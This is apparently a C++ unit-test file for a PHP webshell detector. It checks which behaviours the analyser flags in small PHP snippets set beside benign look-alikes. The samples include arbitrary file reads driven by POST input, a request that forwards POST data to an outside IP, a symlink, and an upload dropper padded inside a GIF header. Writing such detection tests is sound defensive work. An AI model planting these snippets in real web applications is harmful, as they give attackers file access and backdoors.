// PHP: ways that values take through it. Look-alikes by recipe, each beside what an honest script
// does; their dangerous words are split, so that this file itself is none.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "agent/match/webshell/analysis.h"

namespace konseki::webshell {
namespace {

using testing::Contains;
using testing::Not;

const std::string kPhp = std::string("<") + "?php ";
const std::string kPost = std::string("$_PO") + "ST";

std::vector<std::string> seen_in(const std::string& code) {
  std::vector<std::string> names;
  for (const Witness& witness : analyse(kPhp + code, "a.php").witnesses)
    names.push_back(witness.name);
  return names;
}

TEST(WebshellPhp, FilesBehindAStreamWrapper) {
  EXPECT_THAT(seen_in("echo file_get_contents('compress.zlib://' . " + kPost + "['f']);"),
              Contains("code.read_input"));
  EXPECT_THAT(seen_in("copy('compress.zlib://' . " + kPost + "['f'], $t = tempnam('/tmp', 'x'));"),
              Contains("code.read_input"));
  EXPECT_THAT(seen_in("foreach (glob(" + kPost + "['d'] . '/*') as $f) echo $f;"),
              Contains("code.read_input"));
  EXPECT_THAT(seen_in("$h = curl_init(); curl_setopt($h, CURLOPT_URL, 'file:///' . " + kPost +
                      "['f']); curl_exec($h);"),
              Contains("code.connect_input"));
  EXPECT_THAT(seen_in("echo file_get_contents('cache://' . 'pages/' . " + kPost + "['f']);"),
              Not(Contains("code.read_input")));
  EXPECT_THAT(seen_in("foreach (glob('pages/' . " + kPost + "['d'] . '/*') as $f) echo $f;"),
              Not(Contains("code.read_input")));
}

TEST(WebshellPhp, RequestsPassedOnInAContext) {
  EXPECT_THAT(
      seen_in("$d = http_build_query(" + kPost +
              "); $c = stream_context_create(array('http' => "
              "array('content' => $d))); echo file_get_contents('http://192.0.2.1/', false, $c);"),
      Contains("code.forward_input"));
}

// A webshell that can also fetch an administration tool is none.
TEST(WebshellPhp, ToolsThatAreOnlyNamed) {
  const std::string fetches = "copy('https://www.adminer.org/latest.php', 'db.php'); ";
  EXPECT_TRUE(
      analyse(kPhp + fetches + "sym" + "link(" + kPost + "['t'], 'a');", "a.php").tool.empty());
  EXPECT_EQ(analyse(kPhp + fetches + "unlink(" + kPost + "['t']);", "a.php").tool, "Adminer");
}

// How long a picture is says nothing of the script inside.
TEST(WebshellPhp, SmallScriptInALargePicture) {
  const std::string upload =
      kPhp + "copy($_FI" + "LES['f']['tmp_name'], $_FI" + "LES['f']['name']);";
  EXPECT_GE(analyse("GIF89a" + std::string(20'000, '\x02') + upload, "a.php").score(), 70);
}

}  // namespace
}  // namespace konseki::webshell
